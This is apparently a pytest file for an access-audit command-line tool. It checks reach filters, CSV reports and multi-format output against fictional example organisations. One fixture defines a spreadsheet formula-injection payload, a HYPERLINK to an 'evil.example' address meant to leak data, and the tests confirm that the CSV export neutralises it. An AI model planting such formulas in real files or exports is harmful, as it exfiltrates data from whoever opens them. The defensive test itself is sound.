"""The auditor's questions of `reach` (--to, --from, --status, --platform), its CSV, and `check` writing several
reports in one run: on the example organisations and small fixtures in the shapes real exports have."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from helpers import REPO, run_cli, write

ACME = ("reach", str(REPO / "examples" / "acme"), "--as-of", "2026-11-27")
SHOPCO = ("reach", str(REPO / "examples" / "shopco"), "--as-of", "2026-03-21")
CHOI_AWS = "aws:iam::111122223333:user/choi.dh"
# everyone who reaches customers-db in acme: through their SSO accounts, the security admins' IAM admin role, and
# a departed engineer's group that reads the token-signing key
CUSTOMERS_DB_PEOPLE = ["adeyemi.f", "berg.i", "ivanova.m", "kaya.e", "kim.jh", "lee.sy", "lindqvist.e", "mensah.k",
                       "moreau.c", "oconnor.d", "okafor.c", "park.dw", "rossi.g", "santos.l", "schmidt.l", "silva.b",
                       "tanaka.y", "walker.j"]
CUSTOMERS_DB_PRINCIPALS = ["adeyemi.f-sso", "auth-service", "berg.i-sso", "checkout-api", "db-maintenance",
                           "etl-nightly", "ivanova.m-sso", "kaya.e-sso", "kim.jh-cloud", "lee.sy-sso",
                           "lindqvist.e-sso", "mensah.k-sso", "moreau.c-sso", "oconnor.d-sso", "okafor.c-sso",
                           "order-sync", "park.dw-sso", "rossi.g-sso", "santos.l-sso", "schmidt.l-sso", "silva.b-sso",
                           "tanaka.y-sso", "walker.j-sso"]


def listed(*args: str) -> dict[str, Any]:
    result = run_cli(*args, "--format", "json")
    assert result.code == 0, result
    document: dict[str, Any] = json.loads(result.out)
    return document


def ids(document: dict[str, Any]) -> list[str]:
    return [i["id"] for i in document["identities"]]


def test_to_lists_everyone_who_reaches_the_resource_each_with_its_path_to_it() -> None:
    document = listed(*ACME, "--to", "customers-db")
    assert ids(document) == CUSTOMERS_DB_PEOPLE + CUSTOMERS_DB_PRINCIPALS
    assert document["notes"] == [
        "narrowed by --to customers-db: not every identity that reaches customer data is listed"]
    for identity in document["identities"]:
        (resource,) = identity["resources"]
        assert (identity["records"], identity["reached"], resource["id"]) == (33_700_000, 1, "customers-db")
        assert resource["path"][0] == identity["id"] and resource["path"][-1] == "customers-db"
    kim = document["identities"][CUSTOMERS_DB_PEOPLE.index("kim.jh")]
    assert (kim["status"], kim["display_name"]) == ("departed", "Kim Jae-hyun")
    assert [(s["id"], s["relation"]) for s in kim["resources"][0]["steps"]] == [
        ("kim.jh", None), ("auth-platform", "member"), ("auth-jwt-signing", "reads_key"), ("order-sync", "mints"),
        ("orders-rw", "assumes"), ("customers-db", "grants")]


def test_to_repeated_lists_who_reaches_any_of_them_with_a_path_to_each() -> None:
    document = listed(*ACME, "--to", "card-vault", "--to", "hr-records", "--customer-data", "customer*",
                      "--customer-data", "employee*")
    by_id = {i["id"]: i for i in document["identities"]}
    assert [r["id"] for r in by_id["kim.jh"]["resources"]] == ["card-vault", "hr-records"]
    assert [r["id"] for r in by_id["checkout-api"]["resources"]] == ["card-vault"]
    assert {r["id"] for i in document["identities"] for r in i["resources"]} == {"card-vault", "hr-records"}
    assert all({r["id"] for r in i["resources"]} <= {"card-vault", "hr-records"} for i in document["identities"])


def test_from_lists_that_identity_only_with_everything_it_reaches() -> None:
    every = next(i for i in listed(*ACME, "--show", "all")["identities"] if i["id"] == "kim.jh")
    (kim,) = listed(*ACME, "--from", "kim.jh")["identities"]  # every resource, without --show all
    assert (kim["records"], kim["reached"]) == (588_694_000, 10)
    assert [r["id"] for r in kim["resources"]] == [r["id"] for r in every["resources"]]
    for resource in kim["resources"]:
        assert resource["path"][0] == "kim.jh" and resource["path"][-1] == resource["id"]
        assert resource["steps"][-1]["relation"] in ("grants", "controls")
    (two,) = listed(*ACME, "--from", "kim.jh", "--show", "2")["identities"]
    assert [r["id"] for r in two["resources"]] == ["orders-db", "orders-warehouse"] and two["reached"] == 10


def test_status_departed_lists_the_leavers_and_their_own_accounts() -> None:
    # the other leavers reach no customer data; kim.jh-cloud is kim.jh's own account
    assert ids(listed(*ACME, "--status", "departed")) == ["kim.jh", "kim.jh-cloud"]
    document = listed(*SHOPCO, "--status", "departed", "--show", "1")
    assert [(i["id"], i["kind"], i["status"], i["display_name"]) for i in document["identities"]] == [
        ("choi.dh", "person", "departed", "Dohyun Choi"),  # the SCIM roster's displayName
        (CHOI_AWS, "principal", "departed", "Dohyun Choi"),
        ("gcp:user:choi.dh@shopco.example", "principal", "departed", "Dohyun Choi"),
        ("k8s:default:user:choi.dh@shopco.example", "principal", "departed", "Dohyun Choi"),
    ]
    assert ids(listed(*ACME, "--status", "suspended", "--status", "leave")) == []


def test_platform_lists_the_identities_of_that_platform() -> None:
    document = listed(*SHOPCO, "--platform", "aws", "--show", "1")
    assert [(i["id"], i.get("status")) for i in document["identities"]] == [
        (CHOI_AWS, "departed"), ("aws:iam::111122223333:user/han.sj", "active"),
        ("aws:iam::111122223333:user/park.mj", "active"), ("aws:iam::111122223333:root", None),
        ("aws:iam::111122223333:user/ci-deploy", None), ("aws:service:lambda.amazonaws.com", None)]
    assert ids(listed(*SHOPCO, "--platform", "roster", "--show", "1")) == ["choi.dh", "han.sj", "lee.yh", "park.mj"]


@pytest.mark.parametrize(("case", "args", "expected"), [
    ("a departed person's AWS account", (*SHOPCO, "--platform", "aws", "--status", "departed"), [CHOI_AWS]),
    ("leavers who reach one store", (*ACME, "--to", "customers-db", "--status", "departed"),
     ["kim.jh", "kim.jh-cloud"]),
    ("one identity and one store", (*ACME, "--from", "kim.jh", "--from", "lee.sy", "--to", "identity-db"),
     ["kim.jh", "lee.sy"]),
    ("a store nobody of that platform reaches", (*ACME, "--to", "customers-db", "--platform", "gcp"), []),
])
def test_filters_combine(case: str, args: tuple[str, ...], expected: list[str]) -> None:
    document = listed(*args)
    assert ids(document) == expected
    if "--to" in args:
        assert {r["id"] for i in document["identities"] for r in i["resources"]} <= {args[args.index("--to") + 1]}


@pytest.mark.parametrize(("case", "args", "message"), [
    ("a misspelt --to", ("--to", "custmer-db"),
     "expected --to to name a resource of the inventory, found 'custmer-db', which names no node (ids are "
     "case-sensitive); did you mean 'customers-db'?"),
    ("--from in capitals", ("--from", "KIM.JH"),
     "expected --from to name a person or principal of the inventory, found 'KIM.JH', which names no node (ids are "
     "case-sensitive); did you mean 'kim.jh', 'kim.jh-cloud'?"),
    ("nothing near", ("--from", "zzz"),
     "expected --from to name a person or principal of the inventory, found 'zzz', which names no node (ids are "
     "case-sensitive)"),
    ("--to a store that is not customer data", ("--to", "product-catalog"),
     "expected --to to name a customer-data resource, found 'product-catalog', a resource of type database whose "
     "data classes (catalog) no customer-data pattern (customer*) matches; --customer-data names the classes that "
     "are customer data"),
    ("--to the access control", ("--to", "iam"),
     "expected --to to name a customer-data resource, found 'iam', an access-control resource: not customer data "
     "itself, but its admins reach the customer data in its scope (--to one of those lists them)"),
    ("--to a person", ("--to", "kim.jh"),
     "expected --to to name a customer-data resource, found 'kim.jh', a person (`policylint reach --from kim.jh` "
     "lists what it reaches)"),
    ("--to a key", ("--to", "auth-jwt-signing"),
     "expected --to to name a customer-data resource, found 'auth-jwt-signing', a key (`policylint facts "
     "auth-jwt-signing` lists who reaches it)"),
    ("--from a role", ("--from", "orders-rw"),
     "expected --from to name a person or principal, found 'orders-rw', a role (`policylint facts orders-rw` shows "
     "what it reaches)"),
])
def test_a_name_that_answers_nothing_is_a_usage_error_saying_why(case: str, args: tuple[str, ...],
                                                                 message: str) -> None:
    result = run_cli(*ACME, *args)
    assert (result.code, result.out, result.err) == (2, "", f"policylint: error: {message}\n")


def test_facts_of_an_unknown_node_suggests_the_nearest() -> None:
    result = run_cli("facts", "kim.j", *ACME[1:])
    assert (result.code, result.err) == (2, "policylint: error: no node with id 'kim.j' in the inventory (ids are "
                                            "case-sensitive); did you mean 'kim.jh', 'kim.jh-cloud'?\n")


def parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_reach_csv_has_a_row_per_identity_and_resource() -> None:
    result = run_cli(*ACME, "--to", "customers-db", "--format", "csv")
    assert result.code == 0
    rows = parsed(result.out)
    assert rows[0] == ["identity", "kind", "status", "display_name", "resource", "classes", "records", "access",
                       "path"]
    assert [r[0] for r in rows[1:]] == CUSTOMERS_DB_PEOPLE + CUSTOMERS_DB_PRINCIPALS
    assert rows[1 + CUSTOMERS_DB_PEOPLE.index("kim.jh")] == [
        "kim.jh", "person", "departed", "Kim Jae-hyun", "customers-db", "customer_pii", "33700000", "read",
        "kim.jh –member of→ auth-platform –reads key→ auth-jwt-signing –signs for (every principal)→ order-sync "
        "–assumes→ orders-rw –read→ customers-db"]
    assert rows[1 + CUSTOMERS_DB_PEOPLE.index("adeyemi.f")][7:] == [
        "controls", "adeyemi.f –member of→ security-admins –assumes→ iam-admin –admin→ iam –controls→ customers-db"]
    # rows only: what the reader must know to trust them is on the console
    assert result.err == "note: narrowed by --to customers-db: not every identity that reaches customer data is " \
                         "listed\n"


HOSTILE = '=HYPERLINK("http://evil.example/?leak","open")'
# A Kubernetes binding names its users as free text: here one with a line break, which no row may end at
RBAC = """
    apiVersion: v1
    kind: Namespace
    metadata:
      name: billing
      labels:
        data-classification: customer_pii
    ---
    apiVersion: rbac.authorization.k8s.io/v1
    kind: Role
    metadata:
      name: read-exports
      namespace: billing
    rules:
      - apiGroups: [""]
        resources: ["secrets"]
        resourceNames: ["customer-exports"]
        verbs: ["get"]
    ---
    apiVersion: rbac.authorization.k8s.io/v1
    kind: RoleBinding
    metadata:
      name: read-exports
      namespace: billing
    subjects:
      - kind: User
        name: "kim\\njh@acme.example"
        apiGroup: rbac.authorization.k8s.io
    roleRef:
      kind: Role
      name: read-exports
      apiGroup: rbac.authorization.k8s.io
    """


def test_reach_csv_neutralises_formulas_and_line_breaks_in_ids(tmp_path: Path) -> None:
    write(tmp_path, "rbac.yaml", RBAC)
    write(tmp_path, "org.yaml", f"""
        policylint: 1
        people:
          - {{id: lee.sy, status: active, name: "@Lee", team: Platform}}
        principals:
          - {{id: '{HOSTILE}', type: service, owner: lee.sy}}
        resources:
          - {{id: customer-db, type: database, data: [customer_pii], records: 1000}}
        grants:
          - {{to: '{HOSTILE}', resource: customer-db, actions: [read]}}
          - {{to: lee.sy, resource: customer-db, actions: [write]}}
        """)
    result = run_cli("reach", str(tmp_path), "--as-of", "2026-01-01", "--format", "csv")
    assert result.code == 0, result
    assert parsed(result.out) == [
        ["identity", "kind", "status", "display_name", "resource", "classes", "records", "access", "path"],
        ["lee.sy", "person", "active", "'@Lee", "customer-db", "customer_pii", "1000", "write",
         "lee.sy –write→ customer-db"],
        ["'" + HOSTILE, "principal", "", "", "customer-db", "customer_pii", "1000", "read",
         f"'{HOSTILE} –read→ customer-db"],
        ["k8s:default:user:kim\\x0ajh@acme.example", "principal", "", "", "k8s:default:secrets:billing",
         "customer_pii", "", "read", "k8s:default:user:kim\\x0ajh@acme.example –assumes→ "
         "k8s:default:rolebinding:billing/read-exports –read [if resourceNames: customer-exports]→ "
         "k8s:default:secrets:billing"],
    ]


def test_check_csv_has_a_row_per_finding_and_the_summary_on_the_console(tmp_path: Path) -> None:
    result = run_cli("check", str(REPO / "examples" / "acme"), "--as-of", "2026-11-27", "--format", "csv")
    assert result.code == 1
    rows = parsed(result.out)
    assert rows[0][:3] == ["severity", "rule", "title"] and len(rows) == 1 + 32
    assert ["critical", "PL101", "credential", "ak-kim-jh-cloud"] in [[r[0], r[1], r[3], r[4]] for r in rows]
    assert result.err == ("32 findings (3 critical, 19 high, 10 medium) in 9 files with 48 rules as of 2026-11-27; "
                          "62 identities can reach customer data.\n")


def test_several_reports_in_one_run_each_in_the_format_its_suffix_names(tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    result = run_cli("check", str(REPO / "examples" / "acme"), "--as-of", "2026-11-27", "-o", str(out / "r.sarif"),
                     "-o", str(out / "r.json"), "-o", str(out / "r.xml"), "-o", str(out / "r.csv"),
                     "-o", str(out / "r.txt"))
    assert (result.code, result.out) == (1, "")  # the exit code of the findings, as without -o
    assert result.err == ("32 findings (3 critical, 19 high, 10 medium) in 9 files with 48 rules as of 2026-11-27; "
                          "62 identities can reach customer data.\n")
    assert json.loads((out / "r.sarif").read_text())["version"] == "2.1.0"
    assert len(json.loads((out / "r.json").read_text())["findings"]) == 32
    assert (out / "r.xml").read_text().startswith("<?xml version='1.0' encoding='utf-8'?>\n<testsuites ")
    assert len(parsed((out / "r.csv").read_bytes().decode())) == 1 + 32
    assert (out / "r.txt").read_text().splitlines()[-1] == result.err.strip()
    assert sorted(p.name for p in out.iterdir()) == ["r.csv", "r.json", "r.sarif", "r.txt", "r.xml"]


def test_format_applies_to_one_report_and_must_agree_with_several(tmp_path: Path) -> None:
    acme = ("check", str(REPO / "examples" / "acme"), "--as-of", "2026-11-27")
    gitlab = tmp_path / "gl-code-quality-report.json"
    assert run_cli(*acme, "--format", "gitlab", "-o", str(gitlab)).code == 1
    assert isinstance(json.loads(gitlab.read_text()), list)  # GitLab's list of issues, not the json format
    both = run_cli(*acme, "--format", "json", "-o", str(tmp_path / "a.json"), "-o", str(tmp_path / "b.json"))
    assert both.code == 1 and (tmp_path / "a.json").read_text() == (tmp_path / "b.json").read_text()
    mixed = run_cli(*acme, "--format", "gitlab", "-o", str(gitlab), "-o", str(tmp_path / "r.sarif"))
    assert (mixed.code, mixed.err) == (2, f"policylint: error: expected every -o to end in the suffix of --format "
                                          f"gitlab when -o is repeated, found {gitlab}; leave --format out to take "
                                          "each file's format from its suffix\n")


@pytest.mark.parametrize(("case", "names", "message"), [
    ("a suffix that names no format", ("r.sarif", "report.out"),
     "expected -o to name a file ending in .sarif, .json, .xml, .csv, .txt (or --format to name the format), found "
     "{}/report.out"),
    ("the same file twice", ("r.json", "r.json"), "expected each -o to name another file, found {}/r.json again"),
    ("a folder that does not exist", ("r.sarif", "missing/r.json"),
     "expected -o to name a file in an existing folder, found no folder {}/missing"),
])
def test_every_report_file_is_checked_before_the_run_and_none_touched(tmp_path: Path, case: str,
                                                                      names: tuple[str, ...], message: str) -> None:
    stale = write(tmp_path, "r.sarif", '{"runs": ["from last week"]}\n')
    result = run_cli("check", str(REPO / "examples" / "acme"), *[a for n in names for a in ("-o", str(tmp_path / n))])
    assert (result.code, result.out) == (2, "")
    assert result.err == f"policylint: error: {message.format(tmp_path)}\n"
    assert stale.read_text() == '{"runs": ["from last week"]}\n'


def test_input_errors_and_the_summary_reach_the_console_with_o(tmp_path: Path) -> None:
    org = write(tmp_path, "org/people.yaml", "policylint: 1\npeople: [{id: x, status: gone}]\n").parent
    result = run_cli("check", str(org), "--as-of", "2026-01-01", "-o", str(tmp_path / "r.csv"))
    assert result.code == 2
    first, summary = result.err.splitlines()
    assert first.startswith(f"{org / 'people.yaml'}:2:") and summary.endswith("1 input error: fix them and run again.")


UNKNOWN_SIZES = """\
policylint: 1
people:
  - {id: kim.jh, status: departed, departed: 2025-06-14}
grants:
  - {to: kim.jh, resource: "*", actions: [read]}
resources:
""" + "".join(f"  - {{id: store-{n:02}, type: database, data: [customer_pii], records: {1000 * (n + 1)}}}\n"
              for n in range(15)) + """\
  - {id: uncounted-a, type: database, data: [customer_pii]}
  - {id: uncounted-b, type: bucket, data: [customer_pii]}
"""


def test_stores_of_unknown_size_are_never_the_ones_a_cut_list_leaves_out(tmp_path: Path) -> None:
    write(tmp_path, "org.yaml", UNKNOWN_SIZES)
    text = run_cli("reach", str(tmp_path), "--as-of", "2026-01-01").out
    listed = [line.split()[0] for line in text.splitlines() if line.startswith("  ") and "[" in line]
    assert listed[:3] == ["uncounted-a", "uncounted-b", "store-14"] and len(listed) == 10
    assert "kim.jh (person, departed): at least 120,000 records in 17 resources (2 of them of unknown size)" in text
    rows = list(csv.DictReader(io.StringIO(run_cli("reach", str(tmp_path), "--as-of", "2026-01-01", "--format",
                                                   "csv").out)))
    assert len(rows) == 17 and {r["resource"] for r in rows} >= {"uncounted-a", "uncounted-b"}
    assert [r["records"] for r in rows if r["resource"].startswith("uncounted")] == ["", ""]
